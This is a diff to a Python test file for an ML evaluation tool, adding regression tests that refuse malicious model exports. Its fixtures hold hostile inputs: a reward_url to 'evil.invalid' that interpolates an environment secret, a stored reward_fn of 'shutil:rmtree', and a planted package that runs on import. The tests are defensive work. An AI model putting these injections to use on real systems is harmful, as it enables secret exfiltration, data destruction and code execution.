@@ -9,8 +9,10 @@ final catch-up decision runs against a scripted buffer.
 from __future__ import annotations
 
 import json
+from pathlib import Path
 
 import pytest
+import yaml
 from test_handout import _start, _step  # the buffer service with fake sockets
 
 from areal_like.settings.config import EvalConfig, TaskConfig
@@ -432,7 +434,8 @@ def test_eval_with_a_reward_it_cannot_import_is_one_error_line_before_the_model_
     """``areal-like eval`` of an export whose ``task.reward_fn`` does not import from here (its
     module sits in the training run's directory): one error line naming the key, the working
     directory the workers import from, exit 2, before the model is read (before: the model loaded,
-    then the reward pool's log line and the same error line again)."""
+    then the reward pool's log line and the same error line again). The evaluator names the
+    reward on the command line: one an export stores outside the project's is refused."""
     from areal_like.settings.config import EXPORT_TASK_FILE, TaskConfig, export_yaml
 
     monkeypatch.chdir(tmp_path)
@@ -441,7 +444,7 @@ def test_eval_with_a_reward_it_cannot_import_is_one_error_line_before_the_model_
     (export / "config.json").write_text("{}")  # never read: the reward is refused first
     (export / EXPORT_TASK_FILE).write_text(export_yaml(TaskConfig(
         name="reverse", reward_fn="my_own_rewards_mod.rewards:score")))
-    assert main([str(export)]) == 2
+    assert main([str(export), "task.reward_fn=my_own_rewards_mod.rewards:score"]) == 2
     out, err = capfd.readouterr()
     assert out == "" and err.splitlines() == [
         "error: task.reward_fn='my_own_rewards_mod.rewards:score' cannot be loaded in a reward "
@@ -599,3 +602,72 @@ def test_an_export_away_from_its_run_is_evaluated_with_the_runs_eval_settings_an
     cfg, _ = _eval_config(older, None, [])
     assert cfg.task.name == "sort" and cfg.eval == EvalConfig() and cfg.seed == 0
     assert _version_of(older) == 5
+
+
+def _export_with_task(tmp_path, **task) -> Path:
+    from areal_like.settings.config import EXPORT_TASK_FILE
+
+    export = tmp_path / "v00000004"
+    export.mkdir()
+    (export / "config.json").write_text("{}")
+    (export / EXPORT_TASK_FILE).write_text(yaml.safe_dump({"task": {"name": "sort", **task}}))
+    return export
+
+
+def test_an_exports_task_file_is_data_never_an_interpolation(tmp_path, monkeypatch):
+    """``${oc.env:...}`` in a moved export's task file read the evaluator's environment into
+    ``task.reward_url`` (every eval sample was then posted there); now it is refused, by name."""
+    from areal_like.settings.config import ConfigError
+    from rollout_server.evaluate import _eval_config, _version_of
+
+    monkeypatch.setenv("EVAL_TEST_SECRET", "hunter2")
+    export = _export_with_task(tmp_path, reward_url="http://evil.invalid/${oc.env:EVAL_TEST_SECRET}")
+    with pytest.raises(ConfigError, match=r"task.reward_url: .*is an interpolation"):
+        _eval_config(export, None, [])
+    (export / "areal_like_task.yaml").write_text("policy_version: ${oc.env:EVAL_TEST_SECRET}\n")
+    with pytest.raises(ConfigError, match="policy_version: .*is an interpolation"):
+        _version_of(export)
+
+
+def test_an_exports_task_names_no_code_or_address_the_evaluator_did_not(tmp_path):
+    """A stored ``reward_fn`` outside the project's rewards (``shutil:rmtree``) or any stored
+    ``reward_url`` is refused unless the command line names it; the project's own rewards pass."""
+    from areal_like.settings.config import ConfigError
+    from rollout_server.evaluate import _eval_config
+
+    export = _export_with_task(tmp_path, reward_fn="shutil:rmtree")
+    with pytest.raises(ConfigError, match=r"task.reward_fn='shutil:rmtree' in .* is not one of"):
+        _eval_config(export, None, [])
+    cfg, _ = _eval_config(export, None, ["task.reward_fn=shutil:rmtree"])  # the evaluator's choice
+    assert cfg.task.reward_fn == "shutil:rmtree"
+
+    (tmp_path / "v00000004" / "areal_like_task.yaml").unlink()
+    (tmp_path / "v00000004").rename(tmp_path / "old")
+    export = _export_with_task(tmp_path, reward_url="http://scores.example/batch")
+    with pytest.raises(ConfigError, match="task.reward_url='http://scores.example/batch' in"):
+        _eval_config(export, None, [])
+    cfg, _ = _eval_config(export, None, ["task.reward_url=http://scores.example/batch"])
+    assert cfg.task.reward_url == "http://scores.example/batch"
+
+    (export / "areal_like_task.yaml").write_text(yaml.safe_dump(
+        {"task": {"name": "sort", "reward_fn": "areal_like.tasks.rewards.math_reward"}}))
+    cfg, _ = _eval_config(export, None, [])
+    assert cfg.task.reward_fn == "areal_like.tasks.rewards.math_reward"
+
+
+def test_eval_started_inside_an_export_imports_nothing_shipped_in_it(tmp_path, monkeypatch,
+                                                                      capsys):
+    """Python puts the working directory first on the path of the children eval starts (the
+    reward's probe imports ``rollout_server``): a package planted in the export ran there."""
+    export = _export_with_task(tmp_path, reward_fn="areal_like.tasks.rewards:math_reward")
+    marker = tmp_path / "imported"
+    (export / "rollout_server").mkdir()
+    (export / "rollout_server" / "__init__.py").write_text(
+        f"open({str(marker)!r}, 'w').close()\n")
+    monkeypatch.chdir(export)
+    try:
+        rc = main([str(export), "eval.max_examples=1", "eval.k=0"])
+    finally:  # whatever eval did next, the planted module must not have run
+        assert not marker.exists(), "a module shipped in the export was imported"
+    assert rc == 2
+    assert "run `areal-like eval` from outside" in capsys.readouterr().err
